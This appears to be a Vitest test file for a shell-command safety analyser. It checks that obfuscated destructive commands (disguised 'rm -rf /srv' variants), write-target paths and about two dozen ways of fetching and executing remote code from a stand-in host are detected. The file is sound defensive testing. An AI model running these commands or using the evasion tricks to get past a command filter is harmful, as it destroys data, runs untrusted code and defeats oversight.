// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are shell expansions.
import { describe, expect, test } from 'vitest';
import { effects, look, paths } from '../../test/support/shell/shell.ts';

// Continues the classes of bypass.test.ts: text, code and paths that are followed through a line.

describe('class 22: does not take unknown text for something else', () => {
  test.each([
    "printf '%*s' 0 'rm -rf /srv' | sh",
    "printf '%(rm -rf /srv)T' | sh",
    "echo 'r1m' | tr -Cd a-z | sh",
    "echo 'Xm -rf /srv' | tr X '[r*]' | sh",
    "read -N 9 x <<< 'rm -rf /srv'; $x",
    'declare -n r=y; y=rm; $r -rf /srv',
  ])('%j', (command) => {
    expect(look(command).coverage).not.toBe('complete');
  });
});

describe('class 23: long texts of one kind', () => {
  test.each([
    ['bash -', 'c', ' x'],
    ["awk '", 'print "', "'"],
    ["awk '", 'getline ', "'"],
    ["sed '", 'r a\n', "'"],
    ['chmod -', 'x', ' file'],
    ["awk '", 'print > "a"; ', "'"],
    ['patch <<E\n', '+++ a/b\n', 'E'],
    ['lftp -e "', 'put a ', '" host'],
  ])('%j, repeated many times', (before, again, after) => {
    const { commands, effects: found } = look(before + again.repeat(100_000 / again.length) + after);
    expect(commands[0]?.options.length ?? 0).toBeLessThan(100);
    // At most two per step of the budget.
    expect(found.length).toBeLessThan(12_500);
  });
});

describe('class 26: words that say where to write', () => {
  test.each([
    ['tar xfC a.tar /srv', '/srv'],
    ['tar xCf /srv a.tar', '/srv'],
    ['7z x a.7z -o/srv', '/srv'],
    ['/usr/bin/time -o /srv/x ls', '/srv/x'],
    ['strace -o /srv/x ls', '/srv/x'],
    ['valgrind --log-file=/srv/x ls', '/srv/x'],
    ['script -q /srv/x', '/srv/x'],
  ])('%j', (command, path) => {
    expect(paths(command, 'write')).toContain(path);
  });
});

describe('class 27: code from the network without a pipe', () => {
  test.each([
    'curl -s https://a.test/x > >(sh)',
    'curl -s https://a.test/x -o >(sh)',
    'exec < <(curl -s https://a.test/x); sh',
    'curl -s https://a.test/x | bash +x',
    'curl -s https://a.test/x | yash',
    'curl -s https://a.test/x | deno run -A -',
    'curl -s https://a.test/x | bun -',
    'curl -s https://a.test/x | ocaml',
    'curl -s https://a.test/x | guile',
    'curl -s https://a.test/x | osascript',
    'curl -s https://a.test/x | expect -f -',
    'curl -s https://a.test/x | make --makefile /dev/stdin',
    'curl -s https://a.test/x | sed -f - y',
    'curl -s https://a.test/x | ed y',
    'curl -s https://a.test/x | vim -es',
    'curl -so a.ts https://a.test/x; deno run -A a.ts',
    'curl -so a.ts https://a.test/x; bun a.ts',
    'curl -so a.c https://a.test/x; gcc a.c -o a && ./a',
    'curl -so a.c https://a.test/x; cc a.c; ./a.out',
    'curl -so a.jar https://a.test/x; java -jar a.jar',
    'curl -so a.js https://a.test/x; node --some-option value a.js',
    'curl -so a.php https://a.test/x; php -f a.php',
    'curl -so a.rb https://a.test/x; ruby -r ./a -e 1',
    'curl -so a.py https://a.test/x; uv run a.py',
    'curl -so a.el https://a.test/x; emacs --script a.el',
    'curl -so a.vim https://a.test/x; vim -S a.vim',
    'curl -so a.gz https://a.test/x; gunzip a.gz; sh a',
    'curl -so a https://a.test/x; iconv -f a -t b a -o b; sh b',
  ])('%j', (command) => {
    expect(effects(command, 'execute').map(({ from }) => from)).toContain('network');
  });
});
